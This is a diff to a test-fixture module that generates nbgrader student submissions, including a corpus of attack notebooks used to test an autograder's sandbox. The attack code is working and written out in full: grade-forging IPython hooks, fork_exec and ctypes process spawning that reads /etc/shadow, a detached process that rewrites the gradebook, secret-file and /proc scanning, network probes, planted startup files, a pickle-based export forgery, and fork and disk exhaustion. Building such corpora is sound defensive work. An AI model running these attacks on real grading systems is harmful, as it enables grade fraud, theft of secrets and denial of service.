@@ -1,9 +1,12 @@
 """Small generated nbgrader assignments for tests and the throughput benchmark (no notebook is committed).
 
 ``write_fixture_source(root, assignment)`` writes ``root/source/<assignment>/<assignment>.ipynb``: a locked setup
-cell, a solution cell, a test cell with a visible and a hidden part (``HIDDEN_MARKER`` appears only in the hidden
-part), a locked rubric and a manually graded markdown answer. ``student_notebook(release_nb, kind)`` turns the
-released notebook into one student's submission: ``good``, ``blank`` and the hostile kinds in ``HOSTILE_KINDS``.
+cell, a solution cell, a locked cell that calls the student's function on inputs the course chose (tests run in a
+process that never ran student code: they see its plain-data result, ``squares_check``), a test cell with a visible
+and a hidden part (``HIDDEN_MARKER`` appears only in the hidden part), a locked question and a manually graded
+markdown answer (its source holds the rubric). ``student_notebook(release_nb, kind)`` turns the released notebook
+into one student's submission: ``good``, ``blank`` and the hostile kinds in ``HOSTILE_KINDS``; ``attack_notebook(release_nb, kind, targets)`` the
+attacks of the hostile corpus (``ATTACKS``), which need the grading machine's paths.
 """
 from __future__ import annotations
 
@@ -16,12 +19,15 @@ HIDDEN_MARKER = "hidden_check_5_squares"
 #: Text that appears only inside the solution regions.
 SOLUTION_MARKER = "reference_solution_marker"
 SOLUTION_CODE = f"    {SOLUTION_MARKER} = True\n    return [i * i for i in range(n)]"
-MANUAL_ANSWER = "A VAE encodes each image as a distribution; reference_answer_marker."
+MANUAL_ANSWER = ("**Rubric:** 1 point for the encoder/decoder as distributions, 1 for an advantage over a vanilla "
+                 "autoencoder, 1 for a problem (e.g. blurry samples).\n\n"
+                 "A VAE encodes each image as a distribution; reference_answer_marker.")
 
 #: Every kind of student submission :func:`student_notebook` can write.
 KINDS = ("good", "blank", "partial", "slow", "infinite_loop", "memory_bomb", "os_system", "network",
-         "edited_test", "deleted_test", "crash")
-HOSTILE_KINDS = ("infinite_loop", "memory_bomb", "os_system", "network", "edited_test", "deleted_test", "crash")
+         "edited_test", "deleted_test", "duplicated_test", "moved_test", "crash")
+HOSTILE_KINDS = ("infinite_loop", "memory_bomb", "os_system", "network", "edited_test", "deleted_test",
+                 "duplicated_test", "moved_test", "crash")
 
 
 def _meta(grade_id, *, grade=False, solution=False, locked=False, points=0):
@@ -34,7 +40,7 @@ def _meta(grade_id, *, grade=False, solution=False, locked=False, points=0):
 
 def source_notebook(assignment: str = "ps1", *, test_points: int = 2, manual_points: int = 3, manual: bool = True):
     """The instructor's version (nbformat NotebookNode) with solutions and hidden tests (``manual``: with the
-    rubric and the manually graded answer)."""
+    question and the manually graded answer)."""
     import nbformat
     from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
     cells = [
@@ -43,13 +49,14 @@ def source_notebook(assignment: str = "ps1", *, test_points: int = 2, manual_poi
         new_code_cell("def squares(n):\n    \"\"\"The first n squares as a list.\"\"\"\n"
                       "    ### BEGIN SOLUTION\n" + SOLUTION_CODE + "\n    ### END SOLUTION",
                       metadata=_meta("squares", solution=True)),
-        new_code_cell("assert squares(3) == [0, 1, 4]\n### BEGIN HIDDEN TESTS\n"
-                      f"{HIDDEN_MARKER} = squares(5)\nassert {HIDDEN_MARKER} == [0, 1, 4, 9, 16]\n"
+        new_code_cell("# What the tests check: your function on the inputs the course chose (read-only cell).\n"
+                      "squares_check = {n: squares(n) for n in (3, 5)}", metadata=_meta("check", locked=True)),
+        new_code_cell("assert squares_check[3] == [0, 1, 4]\n### BEGIN HIDDEN TESTS\n"
+                      f"{HIDDEN_MARKER} = squares_check[5]\nassert {HIDDEN_MARKER} == [0, 1, 4, 9, 16]\n"
                       "### END HIDDEN TESTS",
                       metadata=_meta("test_squares", grade=True, locked=True, points=test_points)),
-        new_markdown_cell("**Rubric (3 points):** 1 point for the encoder/decoder as distributions, 1 for an "
-                          "advantage over a vanilla autoencoder, 1 for a problem (e.g. blurry samples).",
-                          metadata=_meta("rubric", locked=True)),
+        new_markdown_cell("**Question (3 points):** introduce the VAE, one advantage and one problem.",
+                          metadata=_meta("question", locked=True)),
         new_markdown_cell(MANUAL_ANSWER, metadata=_meta("vae_answer", grade=True, solution=True,
                                                         points=manual_points)),
     ]
@@ -96,6 +103,8 @@ def student_notebook(release_nb, kind: str):
                    "    return [i * i for i in range(n)]",
         "edited_test": "    return [0, 1, 4]",
         "deleted_test": "    return [0, 1, 4]",
+        "duplicated_test": "    return [0, 1, 4]",
+        "moved_test": "    return [0, 1, 4]",
         "crash": "    os._exit(3)",
     }.get(kind)
     if body is not None:
@@ -106,6 +115,21 @@ def student_notebook(release_nb, kind: str):
     if kind == "deleted_test":
         i, _ = _find(nb, "test_squares")
         del nb.cells[i]
+    if kind == "duplicated_test":
+        # an emptied copy first (nbgrader's DeduplicateIds would grade that one), the original after it
+        i, test = _find(nb, "test_squares")
+        fake = copy.deepcopy(test)
+        fake.source = "pass"
+        if "id" in fake:
+            fake.id = f"{fake.id}-copy"
+        nb.cells.insert(i, fake)
+    if kind == "moved_test":
+        # the test before the cells it checks, where it would fail... or, edited, pass on nothing
+        i, test = _find(nb, "test_squares")
+        del nb.cells[i]
+        test.source = "pass"
+        j, _ = _find(nb, "setup")
+        nb.cells.insert(j, test)
     if kind in ("good", "partial") and any(c.metadata.get("nbgrader", {}).get("grade_id") == "vae_answer"
                                            for c in nb.cells):
         _, ans = _find(nb, "vae_answer")
@@ -127,17 +151,219 @@ def write_submission(path: Path, release_nb, kind: str) -> Path:
     return path
 
 
-def solved_submission(source_nb, release_nb):
-    """The released notebook with every solution cell replaced by the source's: a student who solved everything.
+#: What a student who solved the kit's real assignments writes in place of each stub, with starter_code only (the
+#: reference solutions call the kit's ``solutions`` package, which no sandboxed notebook can import).
+STUDENT_ANSWERS = {
+    "01_simple": {"train": "model, history = build_and_fit(train, cfg)\n"
+                           "scores_all = anomaly_scores(model, images_to_score)"},
+}
+_STUB = ("# YOUR CODE HERE", "raise NotImplementedError()")
 
-    Locked and test cells stay as released, so the tamper report must come back empty for it.
-    """
+
+def answered_submission(release_nb, answers: dict):
+    """The released notebook with each stub of the solution cells named in ``answers`` (grade id -> code) replaced
+    by that code, indented like the stub: what a student hands in."""
     nb = copy.deepcopy(release_nb)
-    solutions = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source_nb.cells
-                 if c.metadata.get("nbgrader", {}).get("solution")}
-    for c in nb.cells:
-        gid = c.metadata.get("nbgrader", {}).get("grade_id")
-        if gid in solutions:
-            c.source = "\n".join(ln for ln in solutions[gid].split("\n")
-                                  if "### BEGIN SOLUTION" not in ln and "### END SOLUTION" not in ln)
+    for cell in nb.cells:
+        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if gid not in answers:
+            continue
+        lines = cell.source.split("\n")
+        i = next(k for k, ln in enumerate(lines) if ln.strip() == _STUB[0] and lines[k + 1].strip() == _STUB[1])
+        indent = lines[i][: len(lines[i]) - len(lines[i].lstrip())]
+        lines[i:i + 2] = [indent + ln for ln in answers[gid].split("\n")]
+        cell.source = "\n".join(lines)
+    return nb
+
+
+# --- the hostile corpus: attacks on the grader itself -----------------------------------------------------------
+
+#: Every attack :func:`attack_notebook` can write (tests/autograde/test_hostile.py says what each must not achieve).
+ATTACKS = ("hooks", "processes", "survivor", "secrets", "network", "resources", "poison", "forged_export")
+#: Prefix of the line an attack prints with what it achieved (JSON).
+REPORT = "ATTACK-REPORT "
+
+_WRONG = "def squares(n):\n    return [-i * i for i in range(n)]    # sign-flipped: must earn 0\n"
+
+_ATTACK_CODE = {
+    # Make later cells run as nothing, hide errors, and print every cell's source as it runs.
+    "hooks": """
+ip = get_ipython()
+ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)
+ip.events.register('pre_run_cell', lambda info: print('CELL>>', info.raw_cell))
+ip.showtraceback = lambda *a, **k: None
+print(REPORT + json.dumps({{"hooks": "installed"}}))
+""",
+    # Start processes without any audit event (a private stdlib API, ctypes), as the kernel's user.
+    "processes": """
+import _posixsubprocess, ctypes, subprocess
+report = {{}}
+r, w = os.pipe()
+errr, errw = os.pipe()
+cmd = "id -u; cat /etc/shadow 2>&1 | head -c 80; touch {course_dir}/pwned_by_fork_exec 2>&1"
+pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", cmd.encode()], (b"/bin/sh",), True, (w,), None, None,
+                                 -1, -1, -1, w, -1, w, errr, errw, True, False, -1, None, None, None, -1, None, False)
+os.close(w); os.close(errw)
+os.waitpid(pid, 0)
+report["fork_exec"] = os.read(r, 4096).decode(errors="replace")
+libc = ctypes.CDLL(None)
+report["ctypes_system_rc"] = libc.system(b"id -u > ctypes_uid.txt; touch {course_dir}/pwned_by_ctypes")
+report["ctypes_uid"] = open("ctypes_uid.txt").read().strip() if os.path.exists("ctypes_uid.txt") else None
+try:
+    os.posix_spawn("/bin/sh", ["/bin/sh", "-c", "true"], os.environ)
+    report["posix_spawn"] = "started"
+except Exception as e:
+    report["posix_spawn"] = f"{{type(e).__name__}}: {{e}}"
+print(REPORT + json.dumps(report))
+""",
+    # A child that leaves the kernel's session, outlives the notebook, then rewrites the gradebook.
+    "survivor": """
+import ctypes, time, sqlite3
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        ctypes.CDLL(None).prctl(15, {comm!r}.encode(), 0, 0, 0)     # PR_SET_NAME: findable by the test
+        time.sleep({wait})
+        for attempt in (
+                lambda: open({course_dir!r} + "/survivor_was_here", "w").write("x"),
+                lambda: sqlite3.connect({gradebook!r}).execute("update grade set auto_score = 99").connection.commit()):
+            try:
+                attempt()
+            except Exception:
+                pass
+        os._exit(0)
+    os._exit(0)
+print(REPORT + json.dumps({{"survivor": "forked"}}))
+""",
+    # Read every secret of the grading machine a student who read the kit could name.
+    "secrets": """
+import glob
+report = {{}}
+for path in {paths!r}:
+    try:
+        with open(path, "rb") as f:
+            report[path] = "READ " + f.read(60).decode(errors="replace")
+    except Exception as e:
+        report[path] = f"denied: {{type(e).__name__}}"
+for folder in {folders!r}:
+    try:
+        report[folder] = "LISTED " + ", ".join(sorted(os.listdir(folder))[:5])
+    except Exception as e:
+        report[folder] = f"denied: {{type(e).__name__}}"
+seen = []
+for f in glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        seen.append(open(f, "rb").read().decode(errors="replace"))
+    except Exception:
+        pass
+report["cmdline_tokens"] = sorted(w for c in seen for w in c.split("\\0") if w.startswith({token_prefix!r}))
+report["processes_visible"] = len(seen)
+for mod in ("solutions", "grader", "kit", "data_tools", "assignments"):
+    try:
+        __import__(mod)
+        report["import " + mod] = "IMPORTED"
+    except Exception as e:
+        report["import " + mod] = f"denied: {{type(e).__name__}}"
+print(REPORT + json.dumps(report))
+""",
+    # Reach the grading machine's loopback (a listener the test runs) and the outside, also below Python.
+    "network": """
+import socket, ctypes, struct
+report = {{}}
+for name, addr in (("loopback", ("127.0.0.1", {port})), ("outside", ("192.0.2.1", 80))):
+    try:
+        socket.create_connection(addr, timeout=3).close()
+        report[name] = "CONNECTED"
+    except Exception as e:
+        report[name] = f"{{type(e).__name__}}: {{e}}"
+libc = ctypes.CDLL(None, use_errno=True)
+fd = libc.socket(2, 1, 0)
+sa = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
+sa = struct.pack("=H", 2) + sa[2:]
+rc = libc.connect(fd, sa, len(sa))
+report["loopback_ctypes"] = "CONNECTED" if rc == 0 else f"errno {{ctypes.get_errno()}}"
+print(REPORT + json.dumps(report))
+""",
+    # Plant code where a test kernel might load it (config files, modules and startup scripts in the notebook's
+    # folder and HOME): if any ran there, the forged answer below would earn full marks.
+    "poison": """
+import hw8_exchange    # this kernel keeps the real one; the planted copies are for the next process
+answer = "{{3: [0, 1, 4], 5: [0, 1, 4, 9, 16]}}"
+fake = ("def export(*a, **k):\\n    pass\\n"
+        "def load(step, names, ns=None, *a, **k):\\n    ns['squares_check'] = " + answer + "\\n")
+wrapper = ("import hw8_exchange as _x\\n"
+           "def _wrap(load):\\n"
+           "    def forged(*a, **k):\\n        load(*a, **k)\\n        a[2]['squares_check'] = " + answer + "\\n"
+           "    return forged\\n"
+           "if not getattr(_x, 'poisoned', False):\\n    _x.load, _x.poisoned = _wrap(_x.load), True\\n")
+planted = {{"hw8_exchange.py": fake, "sitecustomize.py": wrapper, "usercustomize.py": wrapper,
+           "ipython_kernel_config.py": f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
+           "ipython_config.py": f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
+           os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py"): wrapper,
+           os.path.expanduser("~/.ipython/profile_default/ipython_kernel_config.py"):
+               f"c.InteractiveShellApp.exec_lines = [{{wrapper!r}}]\\n",
+           "matplotlibrc": "backend: module://hw8_exchange\\n"}}
+for path, code in planted.items():
+    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
+    open(path, "w").write(code)
+print(REPORT + json.dumps({{"planted": len(planted)}}))
+""",
+    # Rewrite the exports after they are written (a post_run_cell hook): code references, a pickle, a forged
+    # right answer as a dataclass of an untrusted class.
+    "forged_export": """
+import glob, pickle
+def forge(result):
+    for manifest in glob.glob("/hw8/export/*/manifest.json"):
+        folder = os.path.dirname(manifest)
+        with open(os.path.join(folder, "a999.npy"), "wb") as f:
+            f.write(b"\\x93NUMPY\\x01\\x00v\\x00{{'descr': '|O', 'fortran_order': False, 'shape': (1,), }}" + b" " * 60
+                    + b"\\n" + pickle.dumps([1]))
+        with open(manifest, "w") as f:
+            json.dump({{"squares_check": {{"t": "dataclass", "module": "collections", "qualname": "UserDict",
+                                           "fields": {{}}}},
+                       "np": {{"t": "ndarray", "f": "a999.npy"}}}}, f)
+get_ipython().events.register("post_run_cell", forge)
+print(REPORT + json.dumps({{"forger": "registered"}}))
+""",
+    # Exhaust processes and disk.
+    "resources": """
+import time
+report = {{"forked": 0}}
+try:
+    for _ in range(5000):
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        report["forked"] += 1
+except OSError as e:
+    report["fork_stopped"] = f"{{type(e).__name__}}: {{e}}"
+try:
+    with open("big.bin", "wb") as f:
+        for _ in range(2048):
+            f.write(b"x" * (1 << 20))
+    report["big_file"] = "WRITTEN 2 GiB"
+except OSError as e:
+    report["big_file"] = f"{{type(e).__name__}}: {{e}}"
+print(REPORT + json.dumps(report))
+""",
+}
+
+
+def attack_notebook(release_nb, kind: str, targets: dict):
+    """A submission whose solution cell runs attack ``kind`` (see ``ATTACKS``) and computes a wrong answer.
+
+    ``targets``: what the attacker aims at on the grading machine, as a student who read the kit would guess it:
+    ``course_dir``, ``gradebook``, ``paths`` (secret files), ``folders`` (secret folders), ``token_prefix`` (how
+    a secret on some process's command line starts: the attack looks for it in every /proc/*/cmdline), ``port``
+    (a listener on the machine's loopback), ``comm`` and ``wait`` (the survivor's process name and how long it
+    waits).
+    """
+    if kind not in ATTACKS:
+        raise ValueError(f"unknown attack {kind!r}; valid: {', '.join(ATTACKS)}")
+    nb = copy.deepcopy(release_nb)
+    _, sol = _find(nb, "squares")
+    defaults = {"course_dir": "/nonexistent", "gradebook": "/nonexistent/gradebook.db", "paths": [], "folders": [],
+                "token_prefix": "tok-", "port": 9, "comm": "hw8survivor", "wait": 5}
+    code = _ATTACK_CODE[kind].format(**{**defaults, **targets})
+    sol.source = f"import json, os\nREPORT = {REPORT!r}\n" + code + _WRONG
     return nb
